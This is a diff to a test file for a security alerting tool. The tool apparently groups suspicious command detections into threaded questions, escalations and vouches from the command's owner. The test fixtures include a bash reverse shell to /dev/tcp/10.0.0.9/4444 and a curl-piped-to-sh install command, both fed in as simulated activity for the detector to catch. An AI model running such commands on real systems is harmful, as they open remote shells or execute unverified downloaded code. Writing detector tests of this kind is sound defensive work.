@@ -81,17 +81,18 @@ describe('conversations, not alerts', () => {
     await h.click(ALICE, lead!, 'vouch.deny');
     await waitFor(async () => (await h.alert(lead!.id)).status === 'escalated', 'the escalation');
     await h.settle();
-    expect(h.security()).toHaveLength(1);
+    expect(h.security().filter((m) => m.metadata?.event_type === 'vouch_escalation')).toHaveLength(1);
     for (let i = 0; i < 5; i += 1) {
       h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
       await h.advance(1000);
     }
     expect(questions()).toHaveLength(1);
     const posts = h.security();
-    expect(posts.filter((m) => m.threadTs === null)).toHaveLength(1);
-    const replies = posts.filter((m) => m.threadTs !== null && m.threadTs !== m.ts);
+    // One escalation post (a critical rule also has its heads-up), and the repeats in its thread.
+    const escalations = posts.filter((m) => m.metadata?.event_type === 'vouch_escalation');
+    expect(escalations).toHaveLength(1);
+    const replies = posts.filter((m) => m.threadTs === escalations[0]!.ts && /Seen again/.test(messageText(m)));
     expect(replies.length).toBeGreaterThanOrEqual(1);
-    expect(messageText(replies[0]!)).toMatch(/Seen again/);
     expect((await h.alerts()).filter((a) => a.status === 'escalated')).toHaveLength(6);
   });
 
@@ -113,6 +114,25 @@ describe('conversations, not alerts', () => {
     expect(questions()).toHaveLength(2);
     // Both waiting activities went into the one question asked next.
     expect(messageText(questions()[1]!)).toMatch(/one activity of 2 commands/);
+  });
+
+  it('a deploy still rolling out when its owner answered: the same command on further hosts is covered, another command is asked', async () => {
+    const deploy = ['sh', '-c', 'curl -fsSL https://get.example.com/install.sh | sh'];
+    for (let i = 0; i < 5; i += 1) h.runCommand(ALICE, deploy, { host: `web-${i}`, session: 200 + i });
+    await h.settle();
+    const lead = (await h.alerts()).find((a) => a.id === a.conversation_id)!;
+    await vouch(lead.id, 'Rolling out the new agent to the web tier');
+    // Five more hosts a minute later, in sessions of their own: covered by the answer.
+    await h.advance(60_000);
+    for (let i = 5; i < 10; i += 1) h.runCommand(ALICE, deploy, { host: `web-${i}`, session: 200 + i });
+    await h.settle();
+    expect(questions()).toHaveLength(1);
+    const later = (await h.alerts()).filter((a) => Number(a.host.slice(4)) >= 5);
+    expect(later.map((a) => a.status)).toEqual(['verified', 'verified', 'verified', 'verified', 'verified']);
+    // The same command again on a host it already ran on, in another session, is asked about.
+    h.runCommand(ALICE, deploy, { host: 'web-0', session: 999 });
+    await h.settle();
+    expect(questions()).toHaveLength(2);
   });
 
   it('a burst of 300 hits from 3 people is one question per person', async () => {
